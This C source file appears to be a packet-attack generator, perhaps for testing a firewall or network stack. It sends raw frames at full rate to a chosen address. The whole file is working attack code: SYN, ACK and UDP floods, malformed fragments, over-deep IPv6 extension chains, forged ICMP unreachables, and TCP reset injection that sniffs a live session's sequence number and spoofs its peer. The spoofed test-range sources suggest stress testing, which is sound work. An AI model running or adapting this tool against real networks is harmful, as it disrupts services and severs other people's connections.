/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Hostile packets, as fast as one thread sends them, written to an interface as they are:
 *
 *   attack KIND COUNT IFACE ADDRESS ADDRESS6 [SRC SPORT DPORT]
 *
 * KIND: one of the table below. ADDRESS: whom they are for. SRC, SPORT, DPORT: the session that `rst`
 * and `quote` are aimed at. Random numbers from a fixed seed. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "net_order.h"
#include "random.h"
#include "wire.h"

#define FRAME_ROOM 1514
#define L2_LEN     14

struct attack {
    uint64_t random;
    uint32_t dst; /* network order, as the next */
    uint32_t src;
    struct in6_addr dst6;
    uint16_t src_port; /* host order */
    uint16_t dst_port;
    uint32_t seq; /* of the session aimed at */
    uint8_t frame[FRAME_ROOM];
    size_t len;
};

static uint8_t *append(struct attack *a, size_t len)
{
    uint8_t *here = a->frame + a->len;

    memset(here, 0, len);
    a->len += len;
    return here;
}

static void begin(struct attack *a, uint16_t eth_type)
{
    a->len = 0;
    memset(append(a, 12), 0xff, 6);
    a->frame[6] = 2;
    put16(append(a, 2), eth_type);
}

/* From a random host of 198.18.0.0/15, which is for tests (RFC 2544). l4_len bytes follow. */
static void ip4(struct attack *a, uint8_t proto, size_t l4_len, uint16_t frag_off)
{
    uint8_t *ip;

    begin(a, 0x0800);
    ip = append(a, 20);
    ip[0] = 0x45;
    put16(ip + 2, (uint32_t)(20 + l4_len));
    put16(ip + 4, random_next(&a->random));
    put16(ip + 6, frag_off);
    ip[8] = 64;
    ip[9] = proto;
    put32(ip + 12, 0xc6120000 | (random_next(&a->random) & 0x1ffff));
    memcpy(ip + 16, &a->dst, 4);
}

static void tcp(struct attack *a, uint8_t flags)
{
    uint8_t *p = append(a, 20);

    put16(p, 1024 + random_next(&a->random) % 60000);
    put16(p + 2, 1 + random_next(&a->random) % 1024);
    put32(p + 4, random_next(&a->random));
    put32(p + 8, random_next(&a->random));
    p[12] = 0x50;
    p[13] = flags;
    put16(p + 14, 1024);
}

static void syn(struct attack *a)
{
    ip4(a, IP_PROTO_TCP, 20, 0);
    tcp(a, 0x02);
}

static void bogus_ack(struct attack *a)
{
    ip4(a, IP_PROTO_TCP, 20, 0);
    tcp(a, 0x10);
}

static void any_flags(struct attack *a)
{
    ip4(a, IP_PROTO_TCP, 20, 0);
    tcp(a, (uint8_t)random_next(&a->random));
}

static void udp(struct attack *a)
{
    uint8_t *p;

    ip4(a, IP_PROTO_UDP, 8 + 18, 0);
    p = append(a, 8 + 18);
    put16(p, 1024 + random_next(&a->random) % 60000);
    put16(p + 2, 1 + random_next(&a->random) % 1024);
    put16(p + 4, 8 + 18);
}

/* The last sequence number that the session aimed at was seen to send, waited for. */
static uint32_t listen_for(const struct attack *a, const char *interface)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET,
                             .sll_protocol = htons(0x0003), /* ETH_P_ALL: what is sent too */
                             .sll_ifindex = (int)if_nametoindex(interface)};
    int fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003));
    uint8_t frame[FRAME_ROOM] = {0}, wanted[4];
    const uint8_t *ip = frame + L2_LEN, *l4 = ip + 20;

    if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)))
        err(1, "%s", interface);
    put16(wanted, a->src_port);
    put16(wanted + 2, a->dst_port);
    while (recv(fd, frame, sizeof(frame), 0) > 0)
        if (ip[0] == 0x45 && ip[9] == IP_PROTO_TCP && !memcmp(l4, wanted, 4))
            break;
    close(fd);
    return (uint32_t)l4[4] << 24 | (uint32_t)l4[5] << 16 | (uint32_t)l4[6] << 8 | l4[7];
}

/* A RST of the session aimed at, a quarter of all numbers and more from its window. */
static void rst(struct attack *a)
{
    uint8_t *ip, *p;

    ip4(a, IP_PROTO_TCP, 20, 0);
    ip = a->frame + L2_LEN;
    memcpy(ip + 12, &a->src, 4);
    tcp(a, 0x04);
    p = ip + 20;
    put16(p, a->src_port);
    put16(p + 2, a->dst_port);
    put32(p + 4, a->seq + 0x40000000 + random_next(&a->random) % 0x40000000);
}

/* A first fragment that no other follows, and every other time a later one with no first. */
static void fragment(struct attack *a)
{
    bool later = random_next(&a->random) & 1;
    uint8_t *p;

    ip4(a, IP_PROTO_UDP, 48, later ? 185 : 0x2000);
    p = append(a, 48);
    if (later)
        return;
    put16(p, 1024 + random_next(&a->random) % 60000);
    put16(p + 2, 9);
    put16(p + 4, 3000);
}

/* Nine IPv6 extension headers: one more than are walked. */
static void deep(struct attack *a)
{
    uint8_t *ip, *p;

    begin(a, 0x86dd);
    ip = append(a, 40);
    ip[0] = 0x60;
    put16(ip + 4, 9 * 8 + 8);
    ip[6] = IP_PROTO_DSTOPTS;
    ip[7] = 64;
    ip[8] = 0xfd;
    put32(ip + 20, random_next(&a->random));
    memcpy(ip + 24, &a->dst6, 16);
    for (int i = 0; i < 9; i++)
        *append(a, 8) = i < 8 ? IP_PROTO_DSTOPTS : IP_PROTO_UDP;
    p = append(a, 8);
    put16(p, 1024 + random_next(&a->random) % 60000);
    put16(p + 2, 9);
    put16(p + 4, 8);
}

/* Port unreachable for a packet of the session aimed at, or of one that is not there. */
static void quote(struct attack *a)
{
    uint8_t *p, *inner;

    ip4(a, IP_PROTO_ICMP, 8 + 28, 0);
    memset(a->frame + L2_LEN + 14, 1, 2); /* few senders: a session each */
    p = append(a, 8);
    p[0] = 3;
    p[1] = 3;
    inner = append(a, 28);
    inner[0] = 0x45;
    put16(inner + 2, 40);
    inner[9] = IP_PROTO_TCP;
    memcpy(inner + 12, &a->dst, 4);
    memcpy(inner + 16, &a->src, 4);
    put16(inner + 20, a->dst_port);
    put16(inner + 22, a->src_port);
    put32(inner + 24, random_next(&a->random));
}

static const struct kind {
    const char *name;
    void (*make)(struct attack *a);
} kinds[] = {
    {"syn", syn},           {"ack", bogus_ack}, {"flags", any_flags}, {"udp", udp},
    {"fragment", fragment}, {"deep", deep},     {"rst", rst},         {"quote", quote},
};

static int open_interface(const char *name)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
    int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;

    if (fd < 0 || !at.sll_ifindex || bind(fd, (struct sockaddr *)&at, sizeof(at)))
        err(1, "%s", name);
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
    return fd;
}

static void send_frame(int fd, const struct attack *a)
{
    while (send(fd, a->frame, a->len, 0) < 0)
        if (errno != ENOBUFS && errno != EAGAIN)
            err(1, "sending");
}

int main(int argc, char **argv)
{
    struct attack a = {.random = 1};
    size_t kind = 0, count, sent = 0;
    int fd;

    if (argc != 6 && argc != 9)
        errx(2, "usage: attack KIND COUNT IFACE ADDRESS ADDRESS6 [SRC SPORT DPORT]");
    while (kind < sizeof(kinds) / sizeof(kinds[0]) && strcmp(kinds[kind].name, argv[1]))
        kind++;
    if (kind == sizeof(kinds) / sizeof(kinds[0]))
        errx(2, "%s: no such attack", argv[1]);
    count = strtoul(argv[2], NULL, 10);
    if (inet_pton(AF_INET, argv[4], &a.dst) != 1 || inet_pton(AF_INET6, argv[5], &a.dst6) != 1)
        errx(2, "%s %s: an IPv4 and an IPv6 address are wanted", argv[4], argv[5]);
    if (argc == 9) {
        if (inet_pton(AF_INET, argv[6], &a.src) != 1)
            errx(2, "%s: an IPv4 address is wanted", argv[6]);
        a.src_port = (uint16_t)atoi(argv[7]);
        a.dst_port = (uint16_t)atoi(argv[8]);
    }
    if (kinds[kind].make == rst)
        a.seq = listen_for(&a, argv[3]);
    fd = open_interface(argv[3]);
    for (; sent < count; sent++) {
        kinds[kind].make(&a);
        send_frame(fd, &a);
    }
    printf("%zu\n", sent);
    close(fd);
    return 0;
}
